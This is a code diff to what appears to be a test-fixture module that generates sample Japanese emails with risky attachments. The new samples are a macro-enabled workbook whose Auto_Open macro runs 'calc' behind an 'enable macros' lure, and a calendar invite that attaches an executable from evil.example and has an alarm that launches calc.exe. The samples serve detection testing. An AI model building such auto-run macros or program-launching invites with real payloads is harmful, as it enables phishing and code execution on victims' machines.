@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import io
+import zipfile
 import zlib
 from dataclasses import dataclass
 from email.message import EmailMessage
@@ -127,6 +128,70 @@ def photo() -> bytes:
     return message.as_bytes()
 
 
+_OOXML = "http://schemas.openxmlformats.org"
+_BOOK = {
+    "[Content_Types].xml": f'''<Types xmlns="{_OOXML}/package/2006/content-types">
+<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
+<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>
+<Override PartName="/xl/workbook.xml"
+ ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>
+<Override PartName="/xl/worksheets/sheet1.xml"
+ ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
+</Types>''',
+    "_rels/.rels": f'''<Relationships xmlns="{_OOXML}/package/2006/relationships">
+<Relationship Id="rId1" Type="{_OOXML}/officeDocument/2006/relationships/officeDocument"
+ Target="xl/workbook.xml"/></Relationships>''',
+    "xl/workbook.xml": f'''<workbook xmlns="{_OOXML}/spreadsheetml/2006/main"
+ xmlns:r="{_OOXML}/officeDocument/2006/relationships">
+<sheets><sheet name="見積" sheetId="1" r:id="rId1"/></sheets></workbook>''',
+    "xl/_rels/workbook.xml.rels": f'''<Relationships xmlns="{_OOXML}/package/2006/relationships">
+<Relationship Id="rId1" Type="{_OOXML}/officeDocument/2006/relationships/worksheet"
+ Target="worksheets/sheet1.xml"/>
+<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+ Target="vbaProject.bin"/></Relationships>''',
+    "xl/worksheets/sheet1.xml": f'''<worksheet xmlns="{_OOXML}/spreadsheetml/2006/main">
+<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>㈱山川　御見積</t></is></c></row>
+<row r="2"><c r="A2"><v>1200</v></c><c r="B2"><v>3</v></c>
+<c r="C2"><f>A2*B2</f><v>3600</v></c></row>
+</sheetData></worksheet>''',
+}
+
+
+def workbook() -> bytes:
+    """An Excel workbook with a formula and a macro."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
+        for name, text in _BOOK.items():
+            package.writestr(name, '<?xml version="1.0" encoding="UTF-8"?>' + text)
+        macro = b'Attribute VB_Name = "ThisWorkbook"\r\nSub Auto_Open()\r\n  Shell "calc"\r\n'
+        package.writestr("xl/vbaProject.bin", macro)
+    message = _message("お見積書", "お見積書を添付します。マクロを有効にしてください。\n")
+    message.add_attachment(
+        out.getvalue(),
+        maintype="application",
+        subtype="vnd.ms-excel.sheet.macroEnabled.12",
+        filename="御見積書.xlsm",
+    )
+    return message.as_bytes()
+
+
+def invitation() -> bytes:
+    """A meeting, with an alarm that runs a program and an address that is fetched."""
+    message = _message("打合せのご案内", "打合せをご案内します。\n")
+    event = (
+        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//demo//JA\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
+        "UID:20261201-1@sender.example.com\r\nDTSTAMP:20261123T000000Z\r\n"
+        "DTSTART:20261201T010000Z\r\nDTEND:20261201T020000Z\r\nSUMMARY:予算の打合せ\r\n"
+        f"LOCATION:第２会議室\r\nORGANIZER:mailto:{SENDER}\r\nATTENDEE:mailto:{RECIPIENT}\r\n"
+        "ATTACH:http://evil.example/a.exe\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\n"
+        "TRIGGER:-PT15M\r\nATTACH:file:///c:/windows/calc.exe\r\nEND:VALARM\r\n"
+        "END:VEVENT\r\nEND:VCALENDAR\r\n"
+    )
+    message.add_attachment(event, subtype="calendar", params={"method": "REQUEST"},
+                           filename="打合せ.ics")  # fmt: skip
+    return message.as_bytes()
+
+
 def unknown() -> bytes:
     """A binary of no known format."""
     message = _message("データ送付", "計測データを添付します。\n")
@@ -168,6 +233,8 @@ def all_samples() -> list[Sample]:
         Sample("HTMLニュースレター (script, tracking pixel, hidden text)", newsletter()),
         Sample("PDF (JavaScript on opening)", pdf()),
         Sample("写真 (GPS position in its metadata)", photo()),
+        Sample("Excelブック (formula, macro that starts a program)", workbook()),
+        Sample("予定 (invitation; alarm that starts a program)", invitation()),
         Sample("不明なバイナリ (unknown binary)", unknown()),
         Sample("攻撃メール (program as PDF, image bomb, forged notice)", hostile()),
     ]
